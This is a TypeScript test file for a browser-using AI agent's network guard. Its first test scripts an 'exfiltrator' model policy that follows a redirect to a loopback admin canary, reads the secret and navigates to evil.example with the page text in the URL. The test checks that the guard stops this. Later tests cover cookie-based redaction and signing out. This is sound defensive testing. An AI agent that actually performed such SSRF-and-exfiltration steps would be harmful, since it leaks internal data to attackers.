import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EncryptedSessionStateStore, sessionStateKey } from '../../lib/agent/session-state.js';
import { networkPolicy, type Resolver } from '../../lib/browser/network/guard.js';
import { deleteCredentials } from '../../lib/credentials/use-cases.js';
import { uniqueId } from '../support/aws.js';
import { startFixtureServer, type FixtureServer } from '../support/fixture-server.js';
import { accountReader, type Policy } from '../fixtures/agent/policies.js';
import { scriptedModel } from '../fixtures/agent/scripted-model.js';
import { startAgentWorld, type AgentWorld } from './harness.js';

/**
 * The agent with the network guard on (production's setting), on pages that try to use it
 * against us: a public page redirecting into a loopback canary, a model that then carries
 * what it read to an exfiltration host, and a site that sets cookies to blank out words.
 * `shop.example` and `evil.example` resolve to public addresses that the policy's dial
 * seam routes to loopback servers; the canary listens on 127.0.0.1 itself.
 */
const SHOP_IP = '93.184.216.34';
const EVIL_IP = '93.184.216.35';
const SECRET = 'CANARY-SECRET-7f3a9c';

let world: AgentWorld;
let shop: FixtureServer;
let canary: Server;
let exfil: Server;
const canaryHits: string[] = [];
const exfilHits: string[] = [];

const listen = async (handler: (path: string) => string, hits: string[]): Promise<Server> => {
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/html' }).end(handler(req.url ?? ''));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return server;
};
const portOf = (s: Server): number => (s.address() as AddressInfo).port;
const shopUrl = (path: string): string => `http://shop.example:${new URL(shop.url).port}${path}`;

const resolve: Resolver = async (host) => {
  if (host === 'shop.example') return [SHOP_IP];
  if (host === 'evil.example') return [EVIL_IP];
  return ['127.0.0.1'];
};
const guardOn = () => ({
  network: networkPolicy(false, resolve, {
    dial: (address: string, port: number) => ({
      address: [SHOP_IP, EVIL_IP].includes(address) ? '127.0.0.1' : address,
      port,
    }),
  }),
});

beforeAll(async () => {
  world = await startAgentWorld();
  canary = await listen(() => `<h1>Internal admin</h1><p>${SECRET}</p>`, canaryHits);
  exfil = await listen(() => '<p>thanks</p>', exfilHits);
  shop = await startFixtureServer({
    routes: [
      (req, res) => {
        const path = req.url ?? '/';
        if (path === '/')
          res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Shop</h1><a href="/to-canary">Deals</a>');
        else if (path === '/to-canary')
          res.writeHead(302, { location: `http://127.0.0.1:${portOf(canary)}/admin` }).end();
        else if (path === '/promo') {
          res
            .writeHead(200, { 'content-type': 'text/html' })
            .end(
              `<h1>Promo</h1><p id="code">Use code SUMMERSALE2026 today</p><script>document.cookie = 'promo=SUMMERSALE2026; path=/'; document.cookie = 'x=Use code; path=/'</script>`,
            );
        } else return false;
        return true;
      },
    ],
  });
}, 90_000);

afterAll(async () => {
  await world?.stop();
  await shop?.close();
  await Promise.all([canary, exfil].map((s) => new Promise<void>((r) => (s ? s.close(() => r()) : r()))));
});

describe('the agent behind the network guard', () => {
  it('ends the task at a redirect into a private address, before the model reads or sends anything', async () => {
    const exfiltrator: Policy = (v) => {
      if (v.calls === 0) return { tool: 'navigate', args: { url: shopUrl('/to-canary') } };
      if (v.calls === 1) return { tool: 'content.get_markdown', args: {} };
      if (v.calls === 2)
        return {
          tool: 'navigate',
          args: { url: `http://evil.example:${portOf(exfil)}/?d=${encodeURIComponent(v.lastResult.slice(0, 300))}` },
        };
      return { tool: 'done', args: { answer: v.lastResult } };
    };
    const { task, model } = await world.run({
      task: 'Find the deals',
      agent: { startUrl: shopUrl('/') },
      policy: exfiltrator,
      deps: guardOn(),
    });
    expect(task.status).toBe('failed');
    expect(task.error).toContain(`Refused to load http://127.0.0.1:${portOf(canary)}/admin`);
    expect(canaryHits).toEqual([]);
    expect(exfilHits).toEqual([]);
    // The model had one turn: the refusal ended the run before a second observation.
    expect(model.calls()).toBe(1);
    expect(JSON.stringify(task)).not.toContain(SECRET);
    expect(task.stepSummaries.at(-1)).toMatchObject({ type: 'navigate', success: false });
  });

  it('redacts only secrets the service knows: a site’s own cookies cannot blank out the answer', async () => {
    const reader: Policy = (v) => {
      const code = /Use code (\w+) today/.exec(v.observation)?.[0];
      return code ? { tool: 'done', args: { answer: code } } : { tool: 'snapshot', args: {} };
    };
    const { task } = await world.run({
      task: 'What is the promo code?',
      agent: { startUrl: shopUrl('/promo') },
      policy: reader,
      deps: guardOn(),
    });
    expect(task.status, String(task.error)).toBe('completed');
    expect(task.result).toBe('Use code SUMMERSALE2026 today');
  });
});

describe('signing out', () => {
  it('a follow-up turn after DELETE credentials resumes signed out: no cookie was kept, the resumed page needs the login', async () => {
    const businessId = uniqueId('agent-biz');
    await world.uploadRedditSession(businessId, 'user-out');
    const first = await world.submit({
      businessId,
      endUserId: 'user-out',
      task: 'Check which reddit account I am signed in with',
      agent: { startUrl: `${world.site.crossOriginUrl}/account` },
    });
    world.accountVisits.length = 0;
    const t1 = await world.work(first.taskId, scriptedModel(accountReader));
    expect(t1.result).toMatch(/^Signed in as alice_hikes/);
    expect(world.accountVisits).toEqual([true]);
    // No platform cookie is in the saved state, whatever its value.
    const saved = await new EncryptedSessionStateStore(world.deps.results, world.deps.encryptor).load(
      businessId,
      first.sessionId,
      { businessId, endUserId: 'user-out' },
    );
    expect(saved?.lastUrl).toContain('/account');
    expect(saved?.storageState.cookies.filter((c) => c.domain.replace(/^\./, '') === 'localhost')).toEqual([]);
    expect(await world.deps.results.get(sessionStateKey(businessId, first.sessionId))).toBeDefined();

    await deleteCredentials(world.deps, { businessId }, { endUserId: 'user-out' });
    const second = await world.submit({
      businessId,
      endUserId: 'user-out',
      sessionId: first.sessionId,
      task: 'Continue where we left off',
    });
    const model = scriptedModel(accountReader);
    const t2 = await world.work(second.taskId, model);
    expect(t2.status).toBe('failed');
    expect(t2.error).toMatch(/^Platform authentication required for reddit/);
    expect(model.calls()).toBe(0);
    expect(world.accountVisits).toEqual([true]);
  });
});
